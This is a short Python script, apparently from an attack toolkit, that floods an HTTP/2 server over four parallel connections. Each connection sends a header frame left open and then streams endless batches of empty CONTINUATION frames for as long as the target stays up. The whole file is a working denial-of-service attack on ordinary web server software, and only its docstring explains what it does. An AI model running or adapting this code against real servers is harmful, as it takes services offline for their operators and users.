"""CONTINUATION frames of no bytes without end."""

from wire.http2 import CONTINUATION, HEADERS, frame, http2


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            if it:
                await it.send(frame(HEADERS, 0, 1, b"\x82"))
            while it and target.goes_on():
                await it.send(frame(CONTINUATION, 0, 1) * 1000)

    await target.lanes(4, lane)
